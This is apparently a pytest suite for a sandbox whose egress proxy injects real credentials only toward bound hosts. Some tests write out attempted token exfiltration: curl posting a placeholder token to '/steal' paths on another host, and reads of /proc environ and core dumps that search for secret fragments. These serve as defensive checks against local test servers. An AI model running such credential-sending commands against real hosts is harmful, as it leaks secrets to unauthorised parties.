"""Secretless egress end to end: real tools inside pcexec sessions of a real daemon, with
the session's own network namespace and proxy (docs/design.md §6).

Upstreams are TLS servers on the host at 127.0.0.2 (inside a session 127.0.0.1 is the
session's own loopback), signed by a test CA the proxy trusts through the test-only
setting egress.extra_upstream_ca_file, allowed by supervisor.sandbox_allow_local:
- A (``bound``): where ``gh`` (inject header) and ``ghb`` (inject body) may go;
- B (``other``): bound to ``other`` only, so it is intercepted too.

What each case shows: the upstream receives the real value; the command only ever held a
placeholder (a fragment of the value is in no environment, /proc file, file or answer);
the transcript shows ``######``; the same placeholder toward B is refused; a core dump
of the client holds the placeholder, never the value; `paddedcell mcp` takes the same path.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from paddedcell.egress.ca import CertificateAuthority
from paddedcell.supervisor import sandbox
from supervisor_helpers import BIN, Daemon, base_env, give_workspace

from egress_helpers import EchoHandler, serving
from egress_tools import WHEEL_NAME, tools_upstream

pytestmark = pytest.mark.skipif(not sandbox.available()[0],
                                reason="this host has no namespaces for the sandbox: "
                                       + sandbox.available()[1])

HOST = "127.0.0.2"
REAL = "ghp_" + "S3ssionRealValue0123456789abcdefABCDE"
BODY_REAL = "sk-" + "B0dyRealValue0123456789abcdefABCDEFGH"
OTHER = "xoxb-" + "0therValue0123456789abcdefABCDEFGHIJ"
FRAGMENT = REAL[8:24]  # 16 characters that only the real value holds
ADMIN = "admin-pw-for-tests-1"
TEST_CA = CertificateAuthority("PaddedCell session test upstream CA")


def _pass_mgr(env: dict[str, str], *args: str) -> None:
    subprocess.run([str(BIN / "pass_mgr"), *args], env=env, check=True, capture_output=True,
                   text=True, input=ADMIN + "\n" if args[:2] == ("admin", "init") else None)


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    root = tmp_path_factory.mktemp("egress-sessions")
    upstream_ca = root / "upstream-ca.pem"
    upstream_ca.write_bytes(TEST_CA.certificate_pem)
    with tools_upstream(TEST_CA, REAL, root / "a", host=HOST, address=HOST) as (a, got_a), \
            tools_upstream(TEST_CA, OTHER, root / "b", host=HOST, address=HOST) as (b, got_b), \
            tools_upstream(TEST_CA, "no secret here", root / "c", host=HOST,
                           address=HOST) as (c, got_c):
        home, ws, ws2 = root / "home", root / "ws", root / "ws2"
        for d in (home, ws, ws2):
            d.mkdir(mode=0o700)
        give_workspace(home, "a1", ws)
        give_workspace(home, "a2", ws2)
        (ws2 / "upstream-ca.pem").write_bytes(TEST_CA.certificate_pem)  # visible inside
        env = base_env(home, PADDEDCELL_VAULT_KDF_ITERATIONS="1",
                       PADDEDCELL_VAULT_KDF_MEMORY_KIB="64", PADDEDCELL_VAULT_KDF_LANES="1")
        _pass_mgr(env, "admin", "init", "--password-stdin")
        _pass_mgr(env, "set", "a1", str(ws), "gh", REAL, ADMIN, "--hosts", f"{HOST}:{a}")
        _pass_mgr(env, "set", "a1", str(ws), "ghb", BODY_REAL, ADMIN, "--hosts", f"{HOST}:{a}",
                  "--inject", "body")
        _pass_mgr(env, "set", "a1", str(ws), "other", OTHER, ADMIN, "--hosts", f"{HOST}:{b}")
        _pass_mgr(env, "set", "a1", str(ws), "plain", "an unbound value 42", ADMIN)
        _pass_mgr(env, "set", "a2", str(ws2), "plain", "another unbound value 42", ADMIN)
        node = _node24()
        # Node lives under the human's cache, which a session does not see: show it.
        extra = {"PADDEDCELL_SUPERVISOR_SANDBOX_BIND_RO": str(Path(node).parent.parent)} \
            if node and not node.startswith("/usr/") else {}
        daemon = Daemon(home, **extra, PADDEDCELL_VAULT_KDF_ITERATIONS="1",
                        PADDEDCELL_VAULT_KDF_MEMORY_KIB="64", PADDEDCELL_VAULT_KDF_LANES="1",
                        PADDEDCELL_SUPERVISOR_SANDBOX_ALLOW_LOCAL=f"{HOST}:{a},{HOST}:{b},{HOST}:{c}",
                        PADDEDCELL_EGRESS_EXTRA_UPSTREAM_CA_FILE=str(upstream_ca))
        try:
            yield {"daemon": daemon, "ws": ws, "ws2": ws2, "a": a, "b": b, "got_a": got_a,
                   "got_b": got_b, "c": c, "got_c": got_c, "home": home, "upstream_ca": str(upstream_ca)}
        finally:
            daemon.stop()


def run(world, command: str, agent: str = "a1", timeout: int = 120) -> str:
    ws = world["ws"] if agent == "a1" else world["ws2"]
    result = world["daemon"].call("/exec", {"command": command, "agentId": agent,
                                            "agentWorkspace": str(ws), "awaitResults": True,
                                            "timeoutSeconds": timeout})
    text = result["content"][0]["text"]
    assert REAL not in text and BODY_REAL not in text and FRAGMENT not in text
    return text


def _auth_values(records: list[dict]) -> list[str]:
    return [v for r in records for k, v in r["headers"] if k.lower() == "authorization"]


def test_curl_header_basic_and_body_reach_the_bound_host_with_the_real_value(world):
    a, got = world["a"], world["got_a"]
    before = len(got)
    out = run(world, f"""
        url=https://{HOST}:{a}
        curl -sS -H "Authorization: Bearer $(pass_mgr get gh)" $url/echo; echo
        curl -sS -u "x-access-token:$(pass_mgr get gh)" $url/echo -o /dev/null -w 'basic %{{http_code}}\\n'
        curl -sS -H "Authorization: Bearer $(pass_mgr get gh)" -d "tok=$(pass_mgr get ghb)" $url/post -o /dev/null -w 'body %{{http_code}}\\n'
    """)
    new = got[before:]
    assert _auth_values(new)[0] == f"Bearer {REAL}"
    assert base64.b64decode(_auth_values(new)[1][6:]).decode() == f"x-access-token:{REAL}"
    assert new[2]["body"] == f"tok={BODY_REAL}"
    assert '"Bearer ######"' in out  # the echo of the header, masked on its way back
    assert "basic 200" in out and "body 200" in out


def test_the_command_holds_a_placeholder_only(world):
    out = run(world, f"""
        t=$(pass_mgr get gh)
        printf %s "$t" | sha256sum | cut -c1-16
        printf 'len=%s prefix=%s\\n' "${{#t}}" "${{t:0:4}}"
        export TOKEN="$t"; printf %s "$t" > token.txt
        echo env=$(env | grep -c -F {FRAGMENT}) \
             proc=$(tr '\\0' '\\n' < /proc/self/environ | grep -c -F {FRAGMENT}) \
             file=$(grep -c -F {FRAGMENT} token.txt) \
             ca=${{SSL_CERT_FILE:+set}}${{CURL_CA_BUNDLE:+set}}${{NODE_EXTRA_CA_CERTS:+set}}
        rm token.txt
    """)
    digest = hashlib.sha256(REAL.encode()).hexdigest()[:16]
    assert digest not in out
    assert f"len={len(REAL)} prefix=ghp_" in out
    assert "env=0 proc=0 file=0 ca=setsetset" in out, out
    assert (world["ws"] / "token.txt").exists() is False


def test_a_placeholder_toward_another_host_is_refused_and_audited(world):
    b, got_b = world["b"], world["got_b"]
    before = len(got_b)
    out = run(world, f'curl -sS -H "Authorization: Bearer $(pass_mgr get gh)" '
                     f"https://{HOST}:{b}/steal")
    assert f"egress refused: gh is bound to {HOST}:{world['a']}" in out
    assert len(got_b) == before
    audit = (world["home"] / "audit.jsonl").read_text()
    assert REAL not in audit and FRAGMENT not in audit
    refused = [json.loads(line) for line in audit.splitlines() if '"egress.refused"' in line]
    assert any(r.get("key") == "gh" and r.get("host") == HOST for r in refused), refused


def test_an_unbound_host_is_searched_once_the_session_holds_a_placeholder(world):
    """C is bound to nothing: before the session's first placeholder its HTTPS is a blind
    tunnel (curl meets C's own certificate, from a CA the session does not trust); after
    it, it is terminated — the placeholder is refused in a header and percent-encoded in
    the query, and a clean request goes through (a session leaf the client trusts; C is
    verified by the proxy)."""
    c, got_c = world["c"], world["got_c"]
    before = len(got_c)
    out = run(world, f"""
        curl -sS https://{HOST}:{c}/before -o /dev/null -w 'before %{{http_code}}\\n' 2>&1
        t=$(pass_mgr get gh)
        curl -sS -H "Authorization: Bearer $t" https://{HOST}:{c}/steal; echo
        curl -sS --get --data-urlencode "t=$t" https://{HOST}:{c}/steal2; echo
        curl -sS https://{HOST}:{c}/clean -o /dev/null -w 'clean %{{http_code}}\\n'
    """)
    assert "before 000" in out and "SSL certificate problem" in out, out
    assert "clean 401" in out, out  # reached: C wants a secret of its own
    assert out.count(f"egress refused: gh is bound to {HOST}:{world['a']}") == 2, out
    assert [r["path"] for r in got_c[before:]] == ["/clean"]


def test_git_clone_and_push_inside_a_session(world):
    a = world["a"]
    out = run(world, f"""
        export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@example.org GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@example.org
        rm -rf clone
        git clone -q "https://x-access-token:$(pass_mgr get gh)@{HOST}:{a}/repo.git" clone 2>&1 && cd clone
        echo change > FROM_SESSION && git add FROM_SESSION && git commit -qm from-session
        git push -q origin HEAD:main 2>&1 && echo pushed
        grep -c -F {FRAGMENT} .git/config
    """, timeout=180)
    assert "pushed\n0\n" in out, out  # pushed; no fragment of the value in .git/config
    log = subprocess.run(["git", "-C", str(world["home"].parent / "a" / "repo.git"), "log",
                          "--format=%s"],
                         capture_output=True, text=True, check=True).stdout.split()
    assert log[0] == "from-session"


def test_python_node_and_pip_inside_a_session(world):
    a = world["a"]
    py = shlex.quote(sys.executable)
    code = ("import os, urllib.request\n"
            f"req = urllib.request.Request('https://{HOST}:{a}/echo', headers={{'Authorization':"
            " 'Bearer ' + os.environ['T']})\n"
            "print('urllib', urllib.request.urlopen(req).status)\n")
    pip = shlex.quote(str(Path(sys.executable).parent / "pip"))
    out = run(world, f"""
        export T=$(pass_mgr get gh)
        {py} -c {shlex.quote(code)} 2>&1
        {pip} download -q --no-deps --disable-pip-version-check --no-cache-dir -d dl \
            --index-url "https://__token__:$T@{HOST}:{a}/simple" tinypkg 2>&1 && ls dl
    """, timeout=180)
    assert "urllib 200" in out, out
    assert WHEEL_NAME in out, out
    node = _node24()
    if node is None:
        pytest.skip("Node 24 not found (scripts/openclaw-env.sh installs it)")
    out = run(world, f"""
        export T=$(pass_mgr get gh) NODE_USE_ENV_PROXY=1
        {shlex.quote(node)} --input-type=module -e "const r = await fetch('https://{HOST}:{a}/echo', {{headers: {{authorization: 'Bearer ' + process.env.T}}}}); console.log('node', r.status)" 2>&1
    """)
    assert "node 200" in out, out


def _node24() -> str | None:
    from test_egress_tools import _node24 as find

    return find()


def test_no_route_but_the_proxy(world):
    code = ("import socket\n"
            f"for target in [('{HOST}', {world['a']}), ('8.8.8.8', 53), ('1.1.1.1', 443)]:\n"
            "    try:\n"
            "        socket.create_connection(target, timeout=3); print('CONNECTED', target)\n"
            "    except OSError as e:\n"
            "        print('no route', target, e.errno)\n")
    out = run(world, f"{shlex.quote(sys.executable)} -c {shlex.quote(code)}")
    assert "CONNECTED" not in out and out.count("no route") == 3, out


def test_an_agent_without_bound_secrets_is_untouched(world):
    a, got = world["a"], world["got_a"]
    before = len(got)
    out = run(world, f"""
        echo ca=${{CURL_CA_BUNDLE:-unset}} ${{SSL_CERT_FILE:-unset}} | grep -c ca.pem
        curl -sS --cacert upstream-ca.pem -H "Authorization: Bearer $(pass_mgr get plain)" https://{HOST}:{a}/echo -o /dev/null -w '%{{http_code}}\\n'
    """, agent="a2")
    assert out.startswith("0\n"), out  # no session CA bundle
    assert "401" in out  # a plain tunnel: the upstream's own certificate, nothing swapped
    assert _auth_values(got[before:]) == ["Bearer another unbound value 42"]


def test_the_plain_pcexec_cli_gets_egress_too(world):
    """A foreground pcexec is its own supervisor (no daemon): the same session path."""
    a, got = world["a"], world["got_a"]
    before = len(got)
    env = {**world["daemon"].env}
    result = subprocess.run(
        [str(BIN / "pcexec"), "--agent-id", "a1", "--agent-workspace", str(world["ws"]),
         "--workdir", str(world["ws"]), "--",
         f'curl -sS -H "Authorization: Bearer $(pass_mgr get gh)" https://{HOST}:{a}/echo'],
        env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert REAL not in result.stdout + result.stderr
    assert '"Bearer ######"' in result.stdout
    assert _auth_values(got[before:]) == [f"Bearer {REAL}"]


def test_a_core_dump_of_the_client_holds_the_placeholder_never_the_value(world):
    """The client's whole memory, dumped after it used the token (its request swapped by
    the proxy, the masked echo read back): gcore (core_pattern plays no part; the process
    lets its own child attach under Yama) and the kernel's own dump on abort()."""
    a = world["a"]
    code = ("import ctypes, os, subprocess, urllib.request\n"
            f"req = urllib.request.Request('https://{HOST}:{a}/echo', headers={{"
            "'Authorization': 'Bearer ' + os.environ['T']})\n"
            "body = urllib.request.urlopen(req).read()\n"
            "print('status', b'#' * 6 in body, flush=True)\n"
            "ctypes.CDLL(None).prctl(0x59616d61, ctypes.c_ulong(-1), 0, 0, 0)  # PR_SET_PTRACER_ANY\n"
            "r = subprocess.run(['gcore', '-o', 'dump.gcore', str(os.getpid())],\n"
            "                   capture_output=True, text=True)\n"
            "print('gcore', r.returncode, flush=True)  # abort() flushes nothing\n"
            "os.abort()\n")
    out = run(world, f"""
        rm -rf dumps; mkdir dumps; cd dumps
        ulimit -c unlimited
        export T=$(pass_mgr get gh)
        {shlex.quote(sys.executable)} -c {shlex.quote(code)} 2>&1
        for f in dump.gcore* core*; do
            [ -s "$f" ] && echo "dump $f value=$(grep -a -c -F {FRAGMENT} "$f") placeholder=$(grep -a -c -F "$T" "$f")"
        done
        cd .. && rm -rf dumps
    """, timeout=180)
    assert "status True" in out, out
    dumps = [line.split() for line in out.splitlines() if line.startswith("dump ")]
    if not dumps:
        pytest.skip(f"this host allows no core dump inside a session (gcore and abort "
                    f"left none): {out[-300:]}")
    for _, name, value, placeholder in dumps:
        assert value == "value=0", (name, out)
        assert placeholder != "placeholder=0", (name, out)  # the dump holds the memory
    assert any(name.startswith("dump.gcore") for _, name, _, _ in dumps) or \
        "gcore 0" not in out, out


def test_paddedcell_mcp_exec_reaches_the_bound_host_and_not_another(world):
    """An MCP client's pcexec tool call, through the real `paddedcell mcp` over stdio
    and the daemon: curl with the bound secret gets the real value to its host; the
    same command toward another intercepted host is refused."""
    sys.path.insert(0, str(Path(__file__).parent / "e2e"))
    from mcp_stack import McpProcess

    a, b, got_a, got_b = world["a"], world["b"], world["got_a"], world["got_b"]
    before_a, before_b = len(got_a), len(got_b)
    env = {"PADDEDCELL_HOME": str(world["home"]), "PATH": f"{BIN}:/usr/bin:/bin"}
    proc = McpProcess([str(BIN / "paddedcell"), "mcp", "--agent-id", "a1",
                       "--agent-workspace", str(world["ws"])], env)
    try:
        proc.initialize()
        curl = 'curl -sS -H "Authorization: Bearer $(pass_mgr get gh)"'
        good = proc.call("pcexec", {"command": f"{curl} https://{HOST}:{a}/echo"})
        bad = proc.call("pcexec", {"command": f"{curl} https://{HOST}:{b}/steal"})
    finally:
        assert proc.close() == 0
    shown = json.dumps([good, bad])
    assert REAL not in shown and FRAGMENT not in shown
    assert '\\"Bearer ######\\"' in shown or '"Bearer ######"' in good["content"][0]["text"]
    assert _auth_values(got_a[before_a:]) == [f"Bearer {REAL}"]
    assert f"egress refused: gh is bound to {HOST}:{a}" in bad["content"][0]["text"]
    assert len(got_b) == before_b


_LOADED = ("h11", "paddedcell.egress.connection", "paddedcell.egress.relay",
           "paddedcell.egress.policy", "paddedcell.egress.intercept", "cryptography.x509")


def _foreground_pcexec_modules(tmp_path: Path, command: str, **env: str) -> tuple[str, list[str]]:
    """Run ``pcexec COMMAND`` in the foreground (its own supervisor, sandbox and proxy, as
    a user runs it); the command's output and which proxy modules that process loaded."""
    code = ("import sys\n"
            "from paddedcell.cli import pcexec\n"
            # pcexec ends with os._exit (no interpreter teardown): here, a SystemExit instead.
            "pcexec._exit_now = sys.exit\n"
            f"sys.argv = ['pcexec', {command!r}]\n"
            "try:\n"
            "    pcexec.main()\n"
            "except SystemExit:\n"
            "    pass\n"
            f"print('LOADED', *[m for m in {_LOADED!r} if m in sys.modules], file=sys.stderr)\n")
    home, ws = tmp_path / "home", tmp_path / "ws"
    for path in (home, ws):
        path.mkdir(mode=0o700, exist_ok=True)
    give_workspace(home, "a1", ws)
    env = base_env(home, AGENT_ID="a1", AGENT_WORKSPACE=str(ws), **env)
    result = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True,
                            text=True, timeout=120, cwd=ws)
    loaded = [line for line in result.stderr.splitlines() if line.startswith("LOADED")]
    assert loaded, result.stderr[-3000:]
    return result.stdout, loaded[-1].split()[1:]


def test_a_session_that_never_connects_loads_none_of_the_proxy(tmp_path):
    # The session's proxy listens from the start, but its policy, h11, the relay (and
    # x509) load at its first connection: a command that never connects pays none of it.
    out, loaded = _foreground_pcexec_modules(tmp_path, "echo quiet")
    assert out == "quiet\n"
    assert loaded == []
    # The first connection loads them and is served as before (a blind tunnel here:
    # no binding, so no interception and no x509).
    with serving(EchoHandler, None, address=HOST) as (port, received):
        command = (f"curl -sS --max-time 20 -p -x $HTTPS_PROXY http://{HOST}:{port}/ping "
                   "-o /dev/null -w '%{http_code}\\n'")
        out, loaded = _foreground_pcexec_modules(
            tmp_path, command, PADDEDCELL_SUPERVISOR_SANDBOX_ALLOW_LOCAL=f"{HOST}:{port}")
    assert out.strip() == "200", out
    assert [r["path"] for r in received] == ["/ping"]
    assert set(loaded) == {"h11", "paddedcell.egress.connection", "paddedcell.egress.relay",
                           "paddedcell.egress.policy"}
